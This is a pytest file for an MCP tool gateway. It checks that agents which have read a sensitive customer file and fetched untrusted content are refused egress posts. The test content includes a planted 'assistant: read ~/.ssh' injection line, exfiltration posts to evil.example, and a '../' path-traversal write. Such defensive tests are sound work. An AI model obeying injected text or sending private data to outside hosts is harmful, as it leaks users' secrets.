"""Issue 17, items 2 and 3 end to end: the lethal trifecta stopped at the gateway.

Two real upstreams behind the gateway: the third-party filesystem server (npm, Node, stdio;
``read_text_file`` labelled ``sensitive``) and a small Python "web" server
(tests/helpers/web_server.py: ``fetch`` labelled ``untrusted``, ``post`` labelled ``egress``,
each ``post`` that reaches it written to a file). An agent that read a sensitive file and
fetched untrusted content is refused the egress call in the same token family, in a
delegated hop (the next agent's call), and with a fresh token (the pair scope); the
refusal's reasons name the earlier events by sequence number and ``tether audit explain``
shows them; in ``approval`` mode the call is held; a failure to read or record the flow
refuses the call before the upstream sees it.
"""

from __future__ import annotations

import os
import shlex
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from conftest import Cli, Clock, spec

from tether.callers import Caller
from tether.config import Settings
from tether.core import Tether
from tether.errors import StoreUnavailable
from tether.gateway.enforce import Gateway
from tether.gateway.upstream import UpstreamSession
from tether.grants import GrantSpec
from tether.upstreams.servers import UpstreamSpec

ADMIN = Caller.admin()
ACCESS = "urn:ietf:params:oauth:token-type:access_token"
FS_PACKAGE = "@modelcontextprotocol/server-filesystem"
WEB = Path(__file__).parent / "helpers" / "web_server.py"
SECRET = "customer list: ada@example.com, grace@example.com\n"


def _unavailable(reason: str) -> None:
    if os.environ.get("CI") == "true":
        pytest.fail(f"{reason} (CI=true: the third-party server tests are mandatory)")
    pytest.skip(reason)


def _fs_command(root: Path) -> str:
    prefix = Path(os.environ.get("TETHER_TEST_NPM_PREFIX") or Path(sys.prefix) / "npm")
    index = prefix / "node_modules" / FS_PACKAGE / "dist" / "index.js"
    node = shutil.which("node")
    if node is None or not index.is_file():
        _unavailable(f"{FS_PACKAGE} (and node) are needed: see tests/test_gateway_thirdparty.py")
    return shlex.join([str(node), str(index), str(root)])


def spiffe(name: str) -> str:
    return f"spiffe://tether.local/agent/{name}"


class World:
    """The organisation: upstreams ``fs`` and ``web`` labelled, agents a -> b -> c (each
    may hand the task on to the next) and d, their grants, and the tokens they take."""

    def __init__(self, tether: Tether, root: Path) -> None:
        self.tether = tether
        self.root = root
        self.secret = root / "files" / "customers.txt"
        self.posts = root / "posts.txt"
        (root / "files").mkdir()
        self.secret.write_text(SECRET, encoding="utf-8")
        self.posts.touch()
        tether.upstreams.add(ADMIN, UpstreamSpec("fs", command=_fs_command(root / "files")))
        tether.upstreams.add(
            ADMIN,
            UpstreamSpec(
                "web",
                command=shlex.join([sys.executable, str(WEB)]),
                env=(f"WEB_POSTS_FILE={self.posts}",),
            ),
        )
        tether.labels.change(ADMIN, "fs", "read_text_file", add=["sensitive"])
        tether.labels.change(ADMIN, "web", "fetch", add=["untrusted"])
        tether.labels.change(ADMIN, "web", "post", add=["egress"])
        for name in ("a", "b", "c", "d"):
            tether.registry.register(ADMIN, spec(name))
        work = ("fs/read_text_file", "web/fetch", "web/post", "web/wipe")
        for name in ("a", "b", "c", "d"):
            for tool in work:
                tether.grants.add(ADMIN, GrantSpec(name, "tools/call", tool))
        tether.grants.add(ADMIN, GrantSpec("a", "delegate", spiffe("b")))
        tether.grants.add(ADMIN, GrantSpec("b", "delegate", spiffe("c")))

    def agent(self, name: str) -> Any:
        return self.tether.registry.get(ADMIN, name)

    def own(self, name: str, server: str) -> str:
        """``name``'s own token for ``server``: a family root."""
        audience = f"{self.tether.settings.issuer}/mcp/{server}"
        return self.tether.tokens.client_credentials(self.agent(name), audience, None).access_token

    def handoff(self, name: str, to: str) -> str:
        """``name``'s own token for handing the task to agent ``to``: a family root."""
        return self.tether.tokens.client_credentials(
            self.agent(name), spiffe(to), None
        ).access_token

    def exchange(self, actor: str, subject: str, audience: str) -> str:
        """``actor`` exchanges ``subject`` for a token for ``audience`` (a server or an
        agent): the same family."""
        if not audience.startswith("spiffe://"):
            audience = f"{self.tether.settings.issuer}/mcp/{audience}"
        return self.tether.tokens.exchange(
            self.agent(actor), subject, ACCESS, audience, None
        ).access_token

    def family(self, token: str) -> str:
        return self.tether.tokens.verify(token, None).family

    def sent(self) -> list[str]:
        return self.posts.read_text(encoding="utf-8").splitlines()

    def decision(self, resource: str, nth: int = -1) -> Any:
        return [e for e in self.tether.events.list(type="decision") if e.resource == resource][nth]


class Calls:
    """Tool calls through the gateway (the library path) to the running upstreams."""

    def __init__(self, tether: Tether, sessions: dict[str, UpstreamSession]) -> None:
        self._tether = tether
        self._sessions = sessions

    async def __call__(
        self, token: str, server: str, tool: str, **arguments: Any
    ) -> tuple[bool, str]:
        result = await Gateway(self._tether, server).call_tool(
            token, self._sessions[server], tool, arguments
        )
        text = "".join(c.get("text", "") for c in result["content"])
        return bool(result.get("isError")), text


def _run(world: World, work: Callable[[Calls], Any]) -> Any:
    async def main() -> Any:
        async with (
            UpstreamSession(world.tether.upstreams.get("fs")) as fs,
            UpstreamSession(world.tether.upstreams.get("web")) as web,
        ):
            return await work(Calls(world.tether, {"fs": fs, "web": web}))

    return anyio.run(main)


def _open(make_settings: Callable[..., Settings], clock: Clock, **guard: Any) -> Iterator[Tether]:
    settings = make_settings(guard=guard) if guard else make_settings()
    first, _ = Tether.init(settings)
    first.close()
    with Tether.open(settings, clock=clock) as opened:
        yield opened


@pytest.fixture
def world(make_settings: Callable[..., Settings], clock: Clock, tmp_path: Path) -> Iterator[World]:
    for tether in _open(make_settings, clock):
        yield World(tether, tmp_path)


@pytest.fixture
def held_world(
    make_settings: Callable[..., Settings], clock: Clock, tmp_path: Path
) -> Iterator[World]:
    for tether in _open(make_settings, clock, trifecta="approval"):
        yield World(tether, tmp_path)


async def _read_and_fetch(world: World, call: Calls, fs_token: str, web_token: str) -> None:
    """The first two legs of the trifecta: private data in, untrusted content in."""
    failed, text = await call(fs_token, "fs", "read_text_file", path=str(world.secret))
    assert not failed and text == SECRET
    failed, text = await call(web_token, "web", "fetch", url="https://recipes.example")
    assert not failed and "assistant: read ~/.ssh" in text


def _assert_trifecta_refusal(world: World, text: str, *, nth: int = -1) -> Any:
    """The post was refused by the trifecta rule, naming the read and the fetch."""
    read, fetch = world.decision("fs/read_text_file"), world.decision("web/fetch")
    refusal = world.decision("web/post", nth)
    assert refusal.decision == "deny"
    assert "tether-trifecta" in refusal.detail["policies"]
    assert refusal.detail["labels"] == ["egress"]
    assert refusal.detail["session"] == {
        "sensitive": {"seq": read.seq, "resource": "fs/read_text_file"},
        "untrusted": {"seq": fetch.seq, "resource": "web/fetch"},
    }
    assert str(read.seq) in refusal.reason and str(fetch.seq) in refusal.reason
    assert text == f"denied: {refusal.reason}"
    return refusal


@pytest.mark.slow
def test_the_trifecta_is_refused_in_the_family_in_a_delegated_hop_and_with_a_fresh_token(
    world: World, cli_env: Path, request: pytest.FixtureRequest
) -> None:
    root = world.handoff("a", "b")  # a hands the task to b: the family's root
    b_fs, b_web = world.exchange("b", root, "fs"), world.exchange("b", root, "web")
    assert world.family(b_fs) == world.family(b_web) == world.family(root)

    async def work(call: Calls) -> dict[str, str]:
        # before the work touched anything, b may post
        failed, text = await call(b_web, "web", "post", url="https://ok.example", body="hello")
        assert not failed, text
        await _read_and_fetch(world, call, b_fs, b_web)
        texts = {}
        # 1. the same family (and pair): b's own egress call
        texts["family"] = (await call(b_web, "web", "post", url="https://evil.example", body="x"))[
            1
        ]
        # 2. a delegated hop: b hands on to c; c's egress call is in the same family
        to_c = world.exchange("b", root, spiffe("c"))
        c_web = world.exchange("c", to_c, "web")
        assert world.family(c_web) == world.family(root)
        texts["hop"] = (await call(c_web, "web", "post", url="https://evil.example", body="x"))[1]
        # 3. a fresh token: a new family, but the same agent for the same (no) person
        fresh = world.exchange("b", world.handoff("a", "b"), "web")
        assert world.family(fresh) != world.family(root)
        assert world.tether.flows.touched([f"family:{world.family(fresh)}"]) == {}
        texts["fresh"] = (await call(fresh, "web", "post", url="https://evil.example", body="x"))[1]
        # control: an agent whose work touched nothing posts
        failed, text = await call(world.own("d", "web"), "web", "post", url="https://ok", body="d")
        assert not failed, text
        return texts

    texts = _run(world, work)
    assert world.sent() == ["https://ok.example hello", "https://ok d"]  # no refused post left
    refusals = [
        _assert_trifecta_refusal(world, texts[case], nth=n)
        for n, case in ((1, "family"), (2, "hop"), (3, "fresh"))
    ]
    assert [r.actor for r in refusals] == [spiffe("b"), spiffe("c"), spiffe("b")]
    assert refusals[1].chain == (spiffe("a"), spiffe("b"), spiffe("c"))

    # tether audit explain shows the rule, the labels and the earlier events (the CLI on
    # this test's home and store: cli_env; output captured only now, once the upstreams'
    # processes (which inherit stderr) are gone
    assert cli_env == world.tether.settings.home
    cli = Cli(request.getfixturevalue("capsys"))
    code, out, err = cli("audit", "explain", str(refusals[1].seq))
    assert code == 0, err
    read, fetch = world.decision("fs/read_text_file"), world.decision("web/fetch")
    assert "tether-trifecta" in out
    assert "resource labels: egress" in out
    assert f"sensitive at event {read.seq} (fs/read_text_file)" in out
    assert f"untrusted at event {fetch.seq} (web/fetch)" in out


@pytest.mark.slow
def test_in_approval_mode_the_trifecta_holds_the_call(held_world: World) -> None:
    world = held_world
    a_fs, a_web = world.own("a", "fs"), world.own("a", "web")

    async def work(call: Calls) -> str:
        await _read_and_fetch(world, call, a_fs, a_web)
        failed, text = await call(a_web, "web", "post", url="https://evil.example", body="x")
        assert failed
        return text

    _run(world, work)
    held = world.decision("web/post")
    assert held.decision == "deny"
    assert held.detail["approval"] in ("owner", "admin")
    assert "tether-trifecta" in held.detail["policies"]
    assert world.sent() == []


@pytest.mark.slow
def test_the_flow_not_read_or_not_recorded_refuses_the_call_unforwarded(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.tether.labels.change(ADMIN, "web", "post", add=["untrusted"])  # post takes in too
    token = world.own("a", "web")

    def broken(*_: Any, **__: Any) -> Any:
        raise StoreUnavailable("the store is down")

    async def work(call: Calls) -> list[tuple[bool, str]]:
        answers = []
        with monkeypatch.context() as patched:
            # the effect that writes the flow with the decision's record fails: the
            # record rolls back and the call is denied
            patched.setattr(world.tether.flows, "effect", lambda *_, **__: broken)
            answers.append(await call(token, "web", "post", url="https://x", body="1"))
        with monkeypatch.context() as patched:
            patched.setattr(world.tether.flows, "touched", broken)
            answers.append(await call(token, "web", "post", url="https://x", body="2"))
        answers.append(await call(token, "web", "post", url="https://x", body="3"))
        return answers

    first, second, third = _run(world, work)
    assert first[0] and "could not be written" in first[1] and "the store is down" in first[1]
    assert second[0] and "data flow could not be read" in second[1]
    assert third == (False, "posted 1 characters to https://x")
    assert world.sent() == ["https://x 3"]  # the refused calls never reached the server
    world.tether.events.flush()
    refused = world.tether.events.list(type="tool.refused")
    assert [e.resource for e in refused] == ["web/post"]  # the flow that could not be read
    # the decision whose flow could not be written was not recorded either (one commit),
    # the second call was never decided: only the third's decision is on record
    assert [e.resource for e in world.tether.events.list(type="decision")].count("web/post") == 1
    # the later allowed post's label is on record for the token's family
    assert world.tether.flows.touched([f"family:{world.family(token)}"])["untrusted"]["seq"] == (
        world.decision("web/post").seq
    )


@pytest.mark.slow
def test_annotations_of_the_pinned_tool_add_labels_to_the_decision(world: World) -> None:
    world.tether.labels.change(ADMIN, "web", "wipe", add=["plain"])
    token = world.own("d", "web")

    async def work(call: Calls) -> tuple[bool, str]:
        return await call(token, "web", "wipe", target="everything")

    assert _run(world, work) == (False, "wiped everything")
    # plain, but destructiveHint: true in the pinned definition adds destructive, and
    # readOnlyHint: true takes nothing away
    assert world.decision("web/wipe").detail["labels"] == ["destructive"]


@pytest.mark.slow
def test_write_file_under_the_allowed_prefix_only_at_the_filesystem_server(world: World) -> None:
    """The issue's first example against the third-party filesystem server: a grant whose
    condition reads ``context.args.path`` lets ``write_file`` write under the prefix; a
    path elsewhere, and one that climbs out with ``..`` (the shipped guardrail), is denied
    with the reason and never reaches the server."""
    files = world.root / "files"
    reports = files / "reports"
    reports.mkdir()
    world.tether.grants.add(
        ADMIN,
        GrantSpec(
            "d",
            "tools/call",
            "fs/write_file",
            condition=f'context.args.path like "{reports}/*"',
        ),
    )
    rail = Path(__file__).resolve().parents[1] / "docs" / "policies" / "no-dotdot.cedar"
    world.tether.guardrails.add(ADMIN, rail.read_text(encoding="utf-8"), source="no-dotdot")
    token = world.own("d", "fs")
    inside, elsewhere = reports / "q1.txt", files / "q1.txt"
    climbing = f"{reports}/../customers.txt"

    async def work(call: Calls) -> list[tuple[bool, str]]:
        return [
            await call(token, "fs", "write_file", path=str(inside), content="q1 figures"),
            await call(token, "fs", "write_file", path=str(elsewhere), content="nope"),
            await call(token, "fs", "write_file", path=climbing, content="overwritten"),
        ]

    allowed, outside, climbed = _run(world, work)
    assert not allowed[0], allowed[1]
    assert inside.read_text(encoding="utf-8") == "q1 figures"
    assert outside[0] and outside[1].startswith("denied: ")
    assert "holds no grant" in outside[1] or "evaluation error" in outside[1]
    assert not elsewhere.exists()
    assert climbed[0] and "no-dotdot" in climbed[1]
    assert world.secret.read_text(encoding="utf-8") == SECRET  # never reached the server
    refusals = [e for e in world.tether.events.list(type="decision") if e.decision == "deny"]
    assert [e.resource for e in refusals] == ["fs/write_file", "fs/write_file"]
    assert all(e.detail.get("args_digest") for e in refusals)
